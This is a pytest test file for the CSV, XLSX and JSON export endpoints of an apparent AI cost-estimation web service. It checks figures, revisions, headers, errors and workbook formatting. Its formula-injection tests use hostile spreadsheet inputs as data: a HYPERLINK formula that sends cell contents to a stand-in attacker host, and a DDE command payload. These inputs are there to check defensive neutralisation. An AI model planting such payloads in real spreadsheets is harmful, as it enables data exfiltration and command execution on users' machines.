"""Exports: every file parsed back equals the Estimate to the cent; pinned revisions never change;
headers, 404s and 422s; text from users never becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from openpyxl.worksheet.worksheet import Worksheet
from suitekit import OWN_FORMULA, xlsx_formulas
from typer.testing import CliRunner

from app import exports, saved, services
from app.cli import app as cli
from app.engine import CATEGORIES, STRATEGIES, PriceSheet, Scenario
from app.presets import PRESETS_DIR, presets
from app.services import price

API = "/api/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PRESETS = sorted(presets())


def scenario_of(slug: str) -> dict[str, Any]:
    return presets()[slug].scenario.model_dump(mode="json")


def create(client: TestClient, scenario: dict[str, Any]) -> int:
    response = client.post(f"{API}/scenarios", json=scenario)
    assert response.status_code == 201, response.text
    return int(response.json()["id"])


def saved_estimate(client: TestClient, sid: int, revision: int | None = None) -> dict[str, Any]:
    params = {"revision": revision} if revision else {}
    response = client.get(f"{API}/scenarios/{sid}/estimate", params=params)
    assert response.status_code == 200
    return dict(response.json())


def inputs_of(client: TestClient, sid: int, revision: int) -> dict[str, Any]:
    return dict(client.get(f"{API}/scenarios/{sid}/revisions/{revision}").json()["inputs"])


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- what a file must say: the Estimate, to the cent ---


def check_long(text: str, doc: dict[str, Any], revision: int | None) -> None:
    rows = rows_of(text)
    assert text.splitlines()[0] == "scenario,revision,strategy,month,period,category,usd,currency"
    strategies = [s for s in STRATEGIES if s in doc["strategies"]]
    assert len(rows) == len(strategies) * doc["horizon_months"] * len(CATEGORIES)
    seen: dict[tuple[str, int, str, str], float] = {}
    for row in rows:
        assert row["scenario"] == doc["scenario_name"]
        assert row["revision"] == (str(revision) if revision else "")
        assert row["currency"] == doc["currency"]
        seen[row["strategy"], int(row["month"]), row["period"], row["category"]] = float(row["usd"])
    expected = {
        (s, m["month"], m["period"], c): m["categories"][c]
        for s in strategies
        for m in doc["strategies"][s]["monthly"]
        for c in CATEGORIES
    }
    assert seen == expected


def check_wide_rows(header: list[str], rows: list[list[Any]], doc: dict[str, Any]) -> None:
    strategies = [s for s in STRATEGIES if s in doc["strategies"]]
    assert header == [
        "month",
        "period",
        "requests",
        *(f"{s}_total_usd" for s in strategies),
        *(f"{s}_{c}_usd" for s in strategies for c in CATEGORIES),
        "currency",
    ]
    assert len(rows) == doc["horizon_months"]
    for m, row in enumerate(rows):
        values = dict(zip(header, row, strict=True))
        assert int(values["month"]) == m + 1
        assert values["period"] == doc["strategies"]["prompting"]["monthly"][m]["period"]
        assert float(values["requests"]) == doc["monthly_requests"][m]
        assert values["currency"] == doc["currency"]
        for s in strategies:
            month = doc["strategies"][s]["monthly"][m]
            assert float(values[f"{s}_total_usd"]) == month["total_usd"]
            for c in CATEGORIES:
                assert float(values[f"{s}_{c}_usd"]) == month["categories"][c]
    if "rag" not in doc["strategies"]:
        assert not any(h.startswith("rag_") for h in header)


def check_wide(text: str, doc: dict[str, Any]) -> None:
    header, *rows = list(csv.reader(io.StringIO(text)))
    check_wide_rows(header, [list(r) for r in rows], doc)


def workbook(data: bytes) -> openpyxl.Workbook:
    """The workbook as a reader that does not calculate sees it: formulas by their cached values."""
    return openpyxl.load_workbook(io.BytesIO(data), data_only=True)


def sections(ws: Worksheet) -> list[list[tuple[Any, ...]]]:
    """The Summary sheet's blocks, split on blank rows; each starts with its header row, and each row is
    as wide as its block's header (the sheet is as wide as its widest block)."""
    blocks: list[list[tuple[Any, ...]]] = [[]]
    for row in ws.iter_rows(values_only=True):
        if all(v is None for v in row):
            blocks.append([])
        else:
            blocks[-1].append(row)
    out = []
    for block in (b for b in blocks if b):
        width = max(i + 1 for i, v in enumerate(block[0]) if v is not None)
        out.append([row[:width] for row in block])
    return out


def unflatten(pairs: Iterator[tuple[str, Any]]) -> dict[str, Any]:
    """The Inputs sheet's dotted paths back into a document: `prompting.candidates.0` is a list item."""
    out: dict[str, Any] = {}
    for path, value in pairs:
        *parents, leaf = path.split(".")
        node = out
        for part in parents:
            node = node.setdefault(part, {})
        node[leaf] = value

    def lists(node: Any) -> Any:
        if not isinstance(node, dict):
            return node
        items = {k: lists(v) for k, v in node.items()}
        return [items[str(i)] for i in range(len(items))] if items and all(k.isdigit() for k in items) else items

    result: dict[str, Any] = lists(out)
    return result


def blank_text_as_none(document: dict[str, Any]) -> dict[str, Any]:
    """An empty text (or an empty mapping or list: no `ranges`, no `extra_costs`) is an empty cell, which
    reads back as None."""
    return {
        k: blank_text_as_none(v) if isinstance(v, dict) and v else (None if v in ("", {}, []) else v)
        for k, v in document.items()
    }


def check_xlsx(data: bytes, doc: dict[str, Any], inputs: dict[str, Any], revision: int | None) -> None:
    wb = workbook(data)
    compared = ["Models"] if doc.get("model_comparison") else []
    assert wb.sheetnames == ["Summary", "Monthly", "Annual", "Inputs", "Prices", "Lifecycle events", *compared]
    if compared:  # the Models sheet: the JSON's models, in order, money to the cent
        _, _, header, *models = wb["Models"].iter_rows(values_only=True)
        assert [(r[0], r[5], r[7]) for r in models] == [
            (m["model"], m["total_usd"], m["saving_usd"]) for m in doc["model_comparison"]["models"]
        ]
    about, strategies, verdict, gates = sections(wb["Summary"])

    items = {row[0]: row[1] for row in about[1:]}
    assert about[0][:2] == ("Item", "Value")
    assert items["Scenario"] == doc["scenario_name"]
    assert items["Revision"] == revision
    assert items["Catalog version"] == doc["catalog_version"]
    assert items["Start month"] == doc["start_month"]
    assert items["Horizon months"] == doc["horizon_months"]

    header = ("Strategy", "Total USD", "Cost per 1k requests USD", "Compute-only USD", "Present value USD")
    assert strategies[0] == header
    assert {row[0]: row[1:] for row in strategies[1:]} == {
        name: (s["total_usd"], s["cost_per_1k_requests_usd"], s.get("compute_only_usd"), s["npv_usd"])
        for name, s in doc["strategies"].items()
    }

    v = doc["verdict"]
    said = {row[0]: row[1] for row in verdict[1:]}
    assert said == {
        "Recommendation": v["recommendation"],
        "Simpler": v["simpler"],
        "Tuned route": v["tuned"],
        "TCO ratio": v["tco_ratio"],
        "Break-even month": v["break_even_month"],
        "Half-cost month": v["half_cost_month"],
        "Break-even requests per month": v["break_even_requests_per_month"],
        "Latency rules out APIs": v["latency_rules_out_apis"],
        "Summary": v["summary"],
        "Cost": v["cost"]["passed"],
        "Readiness": v["readiness"]["passed"],
    }
    assert {row[0]: row[2] for row in verdict[1:] if row[0] in ("Cost", "Readiness")} == {
        "Cost": v["cost"]["text"],
        "Readiness": v["readiness"]["text"],
    }
    assert gates[0] == ("Gate", "Name", "Passed", "Reason", "Why")
    keys = ("id", "name", "passed", "reason", "why")
    assert [dict(zip(keys, row, strict=True)) for row in gates[1:]] == v["gates"]

    monthly = [list(r) for r in wb["Monthly"].iter_rows(values_only=True)]
    check_wide_rows(monthly[0], monthly[1:], doc)

    pairs = wb["Inputs"].iter_rows(min_row=2, values_only=True)
    assert next(wb["Inputs"].iter_rows(values_only=True)) == ("path", "value")
    assert unflatten((str(p), val) for p, val in pairs) == blank_text_as_none(inputs)
    assert Scenario.model_validate(inputs).model_dump(mode="json") == inputs

    prices: dict[str, dict[str, Any]] = {}
    header, *rows = wb["Prices"].iter_rows(values_only=True)
    assert header == ("item", "id", "field", "value", "overridden", "source", "as_of", "note")
    for item, id_, field, value, overridden, source, as_of, note in rows:
        entry = prices.setdefault(
            str(item),
            {"id": id_, "values": {}, "overridden": [], "source": source, "as_of": as_of, "note": note},
        )
        entry["values"][field] = value
        if overridden:
            entry["overridden"].append(field)
    for entry in prices.values():
        entry["as_of"] = entry["as_of"].date().isoformat() if entry["as_of"] else None
    assert prices == doc["prices_used"]

    header, *rows = wb["Lifecycle events"].iter_rows(values_only=True)
    assert header == ("month", "period", "strategy", "model", "event", "successor", "cost_usd", "note")
    if doc["lifecycle_events"]:
        assert [dict(zip(header, row, strict=True)) for row in rows] == doc["lifecycle_events"]
    else:
        assert rows == [(exports.NO_LIFECYCLE_EVENTS, *([None] * (len(header) - 1)))]


# --- saved and posted ---


@pytest.mark.parametrize("slug", PRESETS)
def test_every_export_of_a_saved_scenario_equals_its_estimate(client: TestClient, slug: str) -> None:
    sid = create(client, scenario_of(slug))
    doc = saved_estimate(client, sid)
    base = f"{API}/scenarios/{sid}"

    check_long(client.get(f"{base}/export.csv").text, doc, revision=1)
    check_long(client.get(f"{base}/export.csv", params={"shape": "long", "revision": 1}).text, doc, revision=1)
    check_wide(client.get(f"{base}/export.csv", params={"shape": "wide"}).text, doc)
    check_xlsx(client.get(f"{base}/export.xlsx").content, doc, inputs_of(client, sid, 1), revision=1)

    exported = client.get(f"{base}/export.json").json()
    assert exported == {**doc, "revision": 1, "scenario": inputs_of(client, sid, 1)}


@pytest.mark.parametrize("slug", PRESETS)
def test_every_export_of_a_posted_scenario_equals_post_estimate(client: TestClient, slug: str) -> None:
    scenario = scenario_of(slug)
    doc = client.post(f"{API}/estimate", json=scenario).json()

    check_long(client.post(f"{API}/export.csv", json=scenario).text, doc, revision=None)
    check_wide(client.post(f"{API}/export.csv", params={"shape": "wide"}, json=scenario).text, doc)
    check_xlsx(client.post(f"{API}/export.xlsx", json=scenario).content, doc, scenario, revision=None)
    assert client.post(f"{API}/export.json", json=scenario).json() == doc


def test_posted_defaults_are_filled_in_the_inputs_sheet(client: TestClient) -> None:
    doc = client.post(f"{API}/estimate", json={}).json()
    data = client.post(f"{API}/export.xlsx", json={}).content
    check_xlsx(data, doc, Scenario().model_dump(mode="json"), revision=None)


@pytest.fixture
def old_catalog(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """Save as if the catalog priced gpt-4o input at 99 USD per 1M (yesterday's catalog)."""

    def old_price(scenario: Scenario, *, prefix: str = "") -> PriceSheet:
        sheet = price(scenario, prefix=prefix)
        old = sheet.prompting.model_copy(update={"input": 99.0})
        return sheet.model_copy(update={"prompting": old, "catalog_version": "old-catalog"})

    monkeypatch.setattr(saved, "price", old_price)
    return monkeypatch


def test_a_pinned_revision_keeps_its_figures_after_an_edit_and_a_reprice(
    client: TestClient, old_catalog: pytest.MonkeyPatch
) -> None:
    scenario = scenario_of("support-ticket-categorisation")
    sid = create(client, scenario)
    old_catalog.undo()  # the catalog has moved on since revision 1
    base = f"{API}/scenarios/{sid}"
    pinned = {"revision": 1}

    def files() -> tuple[str, str, bytes, dict[str, Any]]:
        return (
            client.get(f"{base}/export.csv", params=pinned).text,
            client.get(f"{base}/export.csv", params={**pinned, "shape": "wide"}).text,
            client.get(f"{base}/export.xlsx", params=pinned).content,
            client.get(f"{base}/export.json", params=pinned).json(),
        )

    before = files()
    first = saved_estimate(client, sid, 1)
    assert first["catalog_version"] == "old-catalog"
    check_long(before[0], first, revision=1)

    edited = client.put(base, json={"revision": 1, "scenario": {**scenario, "horizon_months": 12}})
    assert edited.status_code == 200
    assert before == files()

    repriced = client.post(f"{base}/reprice", json={"revision": 2})
    assert repriced.json()["latest_revision"] == 3
    assert before == files()  # the workbook byte for byte: dated by the revision, not by the download

    latest = saved_estimate(client, sid)
    assert latest["catalog_version"] != "old-catalog" and latest["horizon_months"] == 12
    latest_csv = client.get(f"{base}/export.csv").text
    assert latest_csv != before[0]
    check_long(latest_csv, latest, revision=3)
    check_xlsx(client.get(f"{base}/export.xlsx").content, latest, inputs_of(client, sid, 3), revision=3)
    two = client.get(f"{base}/export.json", params={"revision": 2}).json()
    assert two == {**saved_estimate(client, sid, 2), "revision": 2, "scenario": inputs_of(client, sid, 2)}


# --- headers, errors, OpenAPI ---


def test_media_types_and_file_names(client: TestClient) -> None:
    scenario = {**scenario_of("content-moderation"), "name": "Content moderation: Q3 / EU (draft)"}
    sid = create(client, scenario)
    base = f"{API}/scenarios/{sid}"
    stem = "content-moderation-q3-eu-draft"
    cases = [
        (client.get(f"{base}/export.csv"), "text/csv; charset=utf-8", f"{stem}-r1.csv"),
        (client.get(f"{base}/export.csv?shape=wide"), "text/csv; charset=utf-8", f"{stem}-r1-wide.csv"),
        (client.get(f"{base}/export.csv?shape=annual"), "text/csv; charset=utf-8", f"{stem}-r1-annual.csv"),
        (client.get(f"{base}/export.xlsx"), XLSX, f"{stem}-r1.xlsx"),
        (client.get(f"{base}/export.json"), "application/json", f"{stem}-r1.json"),
        (client.post(f"{API}/export.csv", json=scenario), "text/csv; charset=utf-8", f"{stem}.csv"),
        (client.post(f"{API}/export.xlsx", json=scenario), XLSX, f"{stem}.xlsx"),
        (client.post(f"{API}/export.json", json=scenario), "application/json", f"{stem}.json"),
    ]
    for response, media_type, filename in cases:
        assert response.status_code == 200
        assert response.headers["content-type"] == media_type
        assert response.headers["content-disposition"] == f'attachment; filename="{filename}"'
    client.put(base, json={"revision": 1, "scenario": {**scenario, "horizon_months": 12}})
    assert client.get(f"{base}/export.csv").headers["content-disposition"].endswith(f'{stem}-r2.csv"')
    assert client.get(f"{base}/export.csv?revision=1").headers["content-disposition"].endswith(f'{stem}-r1.csv"')


@pytest.mark.parametrize(
    ("name", "slug"),
    [
        ("Support tickets", "support-tickets"),
        ("Crème brûlée — v2", "creme-brulee-v2"),
        ("日本語", "scenario"),
        ("", "scenario"),
    ],
)
def test_slugs(name: str, slug: str) -> None:
    assert exports.slugify(name) == slug
    assert exports.export_filename(name, "csv", revision=4) == f"{slug}-r4.csv"
    assert exports.export_filename(name, "csv", revision=4, shape="long") == f"{slug}-r4.csv"
    assert exports.export_filename(name, "csv", revision=4, shape="percentiles") == f"{slug}-r4-percentiles.csv"


@pytest.mark.parametrize("ext", ["csv", "xlsx", "json"])
def test_unknown_scenario_or_revision_is_404_with_the_scenarios_messages(client: TestClient, ext: str) -> None:
    sid = create(client, {"name": "Here"})
    for path, params in ((f"{API}/scenarios/999", {}), (f"{API}/scenarios/{sid}", {"revision": 7})):
        export = client.get(f"{path}/export.{ext}", params=params)
        estimate = client.get(f"{path}/estimate", params=params)
        assert export.status_code == estimate.status_code == 404
        assert export.json() == estimate.json()
    assert client.get(f"{API}/scenarios/999/export.{ext}").json() == {"detail": "no scenario 999"}
    assert client.get(f"{API}/scenarios/{sid}/export.{ext}?revision=0").status_code == 422
    assert client.get(f"{API}/scenarios/0/export.{ext}").status_code == 422


def test_bad_shape_and_bad_bodies_are_422_like_post_estimate(client: TestClient) -> None:
    sid = create(client, {"name": "Here"})
    assert client.get(f"{API}/scenarios/{sid}/export.csv?shape=tall").status_code == 422
    assert client.post(f"{API}/export.csv?shape=tall", json={}).status_code == 422
    bad = {"workload": {"input_tokens": -1}, "prompting": {"model": "openai:gpt-4oo"}}
    expected = client.post(f"{API}/estimate", json=bad)
    assert expected.status_code == 422
    for ext in ("csv", "xlsx", "json"):
        response = client.post(f"{API}/export.{ext}", json=bad)
        assert (response.status_code, response.json()) == (422, expected.json())
    unknown_model = {"prompting": {"model": "openai:gpt-4oo"}}
    estimate = client.post(f"{API}/estimate", json=unknown_model)
    for ext in ("csv", "xlsx", "json"):
        response = client.post(f"{API}/export.{ext}", json=unknown_model)
        assert (response.status_code, response.json()) == (422, estimate.json())
        assert response.json()["detail"][0]["loc"] == "prompting.model"


def test_openapi_declares_the_exports_and_their_content_types(client: TestClient) -> None:
    paths = client.get("/openapi.json").json()["paths"]
    expected = {
        "/api/v1/scenarios/{scenario_id}/export.csv": ("get", "text/csv"),
        "/api/v1/scenarios/{scenario_id}/export.xlsx": ("get", XLSX),
        "/api/v1/scenarios/{scenario_id}/export.json": ("get", "application/json"),
        "/api/v1/export.csv": ("post", "text/csv"),
        "/api/v1/export.xlsx": ("post", XLSX),
        "/api/v1/export.json": ("post", "application/json"),
    }
    for path, (method, media_type) in expected.items():
        operation = paths[path][method]
        assert operation["tags"] == ["exports"]
        content = list(operation["responses"]["200"]["content"])
        # an XLSX is declared as octet-stream too, which generated clients keep as bytes (docs/api.md)
        assert content == ([media_type, "application/octet-stream"] if media_type == XLSX else [media_type])
        assert "Content-Disposition" in operation["responses"]["200"]["headers"]
        assert "422" in operation["responses"]
        if method == "get":
            assert "404" in operation["responses"]
            assert {p["name"] for p in operation["parameters"]} >= {"scenario_id", "revision"}
    assert {p["name"] for p in paths["/api/v1/export.csv"]["post"]["parameters"]} == {"shape"}


# --- formula injection ---


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x","y")'])
def test_csv_cells_from_users_never_start_a_formula(text: str) -> None:
    assert exports.neutralise(text) == "'" + text
    assert exports.neutralise("plain " + text) == "plain " + text


def test_formula_injection_is_neutralised_in_csv_and_xlsx(client: TestClient) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    scenario = {**scenario_of("content-moderation"), "name": name, "description": "@SUM(1+1)*cmd|' /C calc'!A0"}
    sid = create(client, scenario)

    rows = rows_of(client.get(f"{API}/scenarios/{sid}/export.csv").text)
    assert {row["scenario"] for row in rows} == {"'" + name}
    posted = rows_of(client.post(f"{API}/export.csv", json=scenario).text)
    assert {row["scenario"] for row in posted} == {"'" + name}

    for data in (
        client.get(f"{API}/scenarios/{sid}/export.xlsx").content,
        client.post(f"{API}/export.xlsx", json=scenario).content,
    ):
        # the only formulas are the workbook's own totals: SUMs over the Monthly sheet
        formulas = xlsx_formulas(data)
        assert formulas and all(OWN_FORMULA.fullmatch(f) for f in formulas)
        wb = openpyxl.load_workbook(io.BytesIO(data))
        texts = [
            cell
            for ws in wb
            for row in ws.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(("=", "@")) and cell.data_type != "f"
        ]
        assert {c.value for c in texts} == {name, scenario["description"]}  # as typed, not prefixed
        assert all(c.data_type == "s" for c in texts)


@pytest.mark.parametrize("field", ["name", "description"])
def test_control_characters_in_free_text_are_refused_at_the_field(client: TestClient, field: str) -> None:
    """NUL and other control characters: PostgreSQL cannot store NUL, XML (XLSX) cannot hold them."""
    response = client.post(f"{API}/export.xlsx", json={field: "Bell\x07 and\x00 null"})
    assert response.status_code == 422
    assert [e["loc"] for e in response.json()["detail"]] == [field]


def test_the_workbook_drops_control_characters_it_is_handed_anyway() -> None:
    """Defence in depth for documents that never went through Scenario (an import, an old row)."""
    scenario = Scenario()
    document = services.estimate_one(scenario)
    document["scenario_name"] = "Bell\x07 and\x00 null"
    data = exports.xlsx_export(document, scenario)
    assert workbook(data)["Summary"]["B2"].value == "Bell and null"


# --- the workbook's form ---


def test_workbook_formats_headers_and_determinism(client: TestClient) -> None:
    sid = create(client, scenario_of("content-moderation"))
    data = client.get(f"{API}/scenarios/{sid}/export.xlsx").content
    assert data == client.get(f"{API}/scenarios/{sid}/export.xlsx").content
    wb = workbook(data)
    for ws in wb:
        assert all(cell.font.b for cell in ws[1] if cell.value is not None), ws.title
        assert ws.freeze_panes in ("A2", "B2"), ws.title
        assert all(dim.width and dim.width >= 8 for dim in ws.column_dimensions.values()), ws.title

    summary = wb["Summary"]
    labels = {row[0].value: row[1] for row in summary.iter_rows() if row[0].value is not None}
    assert labels["TCO ratio"].number_format == '0.00"x"'
    assert labels["Break-even month"].number_format == "0"
    assert labels["prompting"].number_format == "#,##0.00"
    monthly = wb["Monthly"]
    assert (monthly["A2"].number_format, monthly["A2"].value) == ("0", 1)
    assert monthly["B2"].data_type == "s" and monthly["B2"].value == saved_estimate(client, sid)["start_month"]
    assert monthly["C2"].number_format == "#,##0"
    assert all(cell.number_format == "#,##0.00" for cell in monthly[2][3:-1])
    assert monthly[2][-1].value == "USD"  # the currency column

    created = client.get(f"{API}/scenarios/{sid}/revisions/1").json()["created_at"]
    when = dt.datetime.fromisoformat(created).astimezone(dt.UTC).replace(tzinfo=None, microsecond=0)
    assert wb.properties.created == wb.properties.modified == when

    doc = saved_estimate(client, sid)
    posted = exports.xlsx_export(doc, scenario_of("content-moderation"))
    assert posted == exports.xlsx_export(doc, scenario_of("content-moderation"))
    assert workbook(posted).properties.created == exports.FIXED_CREATED


# --- the command line shares the shapes ---


@pytest.mark.parametrize("shape", ["long", "wide", "percentiles"])
def test_cli_csv_shapes_equal_the_posted_exports(client: TestClient, shape: str) -> None:
    path = PRESETS_DIR / "content-moderation.yaml"
    result = CliRunner().invoke(cli, ["estimate", str(path), "--format", "csv", "--shape", shape])
    assert result.exit_code == 0, result.output
    posted = client.post(f"{API}/export.csv", params={"shape": shape}, json=scenario_of("content-moderation"))
    assert result.stdout == posted.text


# --- calendar months and lifecycle events ---

NEW_YEAR = ["2026-11", "2026-12", "2027-01", "2027-02"]
"""The calendar months of a scenario that starts in 2026-11 over 4 months: across a year boundary."""


def across_new_year() -> dict[str, Any]:
    return {**scenario_of("content-moderation"), "start_month": "2026-11", "horizon_months": len(NEW_YEAR)}


def test_every_month_of_every_export_carries_its_calendar_month(client: TestClient) -> None:
    scenario = across_new_year()
    sid = create(client, scenario)
    present = list(client.post(f"{API}/estimate", json=scenario).json()["strategies"])
    base = f"{API}/scenarios/{sid}"
    saved_csv = {shape: client.get(f"{base}/export.csv", params={"shape": shape}).text for shape in exports.SHAPES}
    posted_csv = {
        shape: client.post(f"{API}/export.csv", params={"shape": shape}, json=scenario).text for shape in exports.SHAPES
    }
    for files in (saved_csv, posted_csv):
        header = files["long"].splitlines()[0].split(",")
        assert header[header.index("month") + 1] == "period"
        long = rows_of(files["long"])
        assert sorted({row["strategy"] for row in long}) == sorted(present)
        for s in present:
            for c in CATEGORIES:
                months = [(int(r["month"]), r["period"]) for r in long if r["strategy"] == s and r["category"] == c]
                assert months == list(enumerate(NEW_YEAR, start=1))
        for shape in ("wide", "percentiles"):
            assert files[shape].splitlines()[0].startswith("month,period,"), shape
            rows = rows_of(files[shape])
            assert [(int(r["month"]), r["period"]) for r in rows] == list(enumerate(NEW_YEAR, start=1)), shape

    for data in (
        client.get(f"{base}/export.xlsx", params={"uncertainty": "true"}).content,
        client.post(f"{API}/export.xlsx", params={"uncertainty": "true"}, json=scenario).content,
    ):
        wb = workbook(data)
        items = {row[0]: row[1] for row in wb["Summary"].iter_rows(values_only=True)}
        assert items["Start month"] == "2026-11"
        monthly = list(wb["Monthly"].iter_rows(values_only=True))
        assert monthly[0][:3] == ("month", "period", "requests")
        assert [row[:2] for row in monthly[1:]] == list(enumerate(NEW_YEAR, start=1))
        bands = sections(wb["Percentiles"])[-1]
        assert bands[0][:2] == ("month", "period")
        assert [row[:2] for row in bands[1:]] == list(enumerate(NEW_YEAR, start=1))

    for doc in (
        client.get(f"{base}/export.json").json(),
        client.post(f"{API}/export.json", json=scenario).json(),
    ):
        assert doc["start_month"] == "2026-11"
        for s in present:
            assert [m["period"] for m in doc["strategies"][s]["monthly"]] == NEW_YEAR
        assert "lifecycle_events" in doc and "not_maintainable_from_month" in doc["strategies"]["fine_tuning"]


GPT_4O_SHUTDOWN = {
    "month": 2,
    "period": "2027-01",
    "strategy": "prompting",
    "model": "openai:gpt-4o",
    "event": "migration",
    "successor": "openai:gpt-6-luna",
    "cost_usd": 4000.12,  # a week of re-validation and the golden set scored on luna (300 x 0.0004)
}
"""gpt-4o shuts down on 2027-01-14: from 2026-12 that is month 2, costed as 1 re-validation week x 4,000 USD."""


def test_the_workbook_lists_the_lifecycle_events(client: TestClient) -> None:
    scenario = {"name": "Still on gpt-4o", "start_month": "2026-12", "prompting": {"model": "openai:gpt-4o"}}
    sid = create(client, scenario)
    for doc, data in (
        (
            client.post(f"{API}/estimate", json=scenario).json(),
            client.post(f"{API}/export.xlsx", json=scenario).content,
        ),
        (saved_estimate(client, sid), client.get(f"{API}/scenarios/{sid}/export.xlsx").content),
    ):
        ws = workbook(data)["Lifecycle events"]
        header, *rows = ws.iter_rows(values_only=True)
        events = [dict(zip(header, row, strict=True)) for row in rows]
        assert events == doc["lifecycle_events"]
        [shutdown] = [e for e in events if e["model"] == "openai:gpt-4o"]
        assert {k: v for k, v in shutdown.items() if k != "note"} == GPT_4O_SHUTDOWN
        assert "2027-01-14" in shutdown["note"] and "gpt-6-luna" in shutdown["note"]
        [cost] = [row[6] for row in ws.iter_rows(min_row=2) if row[3].value == "openai:gpt-4o"]
        assert cost.number_format == "#,##0.00"
        assert all(cell.font.b for cell in ws[1]) and ws.freeze_panes == "A2"


def test_the_workbook_says_when_no_model_ends_inside_the_horizon(client: TestClient) -> None:
    sid = create(client, {})
    for doc, data in (
        (client.post(f"{API}/estimate", json={}).json(), client.post(f"{API}/export.xlsx", json={}).content),
        (saved_estimate(client, sid), client.get(f"{API}/scenarios/{sid}/export.xlsx").content),
    ):
        assert doc["lifecycle_events"] == []
        rows = list(workbook(data)["Lifecycle events"].iter_rows(values_only=True))
        assert rows[1:] == [("No model used here has an announced end inside the horizon.", *[None] * 7)]


def test_head_is_answered_wherever_get_is_and_an_xlsx_is_not_gzipped_again(client: TestClient) -> None:
    """HEAD: the GET's status and headers, no body (curl -I, link checkers). An XLSX is a zip already."""
    sid = client.post("/api/v1/scenarios", json={"name": "Head"}).json()["id"]
    gzip = {"accept-encoding": "gzip"}
    for url in (
        f"/api/v1/scenarios/{sid}/export.csv?shape=wide",
        f"/api/v1/scenarios/{sid}/export.xlsx",
        f"/api/v1/scenarios/{sid}/export.json",
        "/api/v1/presets",
        "/",
    ):
        head, get = client.head(url, headers=gzip), client.get(url, headers=gzip)
        assert (head.status_code, head.content) == (200, b""), url
        for name in ("content-type", "content-disposition", "content-encoding"):
            assert head.headers.get(name) == get.headers.get(name), (url, name)
    assert client.head("/api/v1/scenarios/999999").status_code == 404
    assert client.head("/api/v1/estimate").status_code == 405  # POST only: no GET to stand for
    xlsx = client.get(f"/api/v1/scenarios/{sid}/export.xlsx", headers=gzip)
    assert "content-encoding" not in xlsx.headers and xlsx.content[:2] == b"PK"
    assert client.get(f"/api/v1/scenarios/{sid}/export.csv", headers=gzip).headers["content-encoding"] == "gzip"
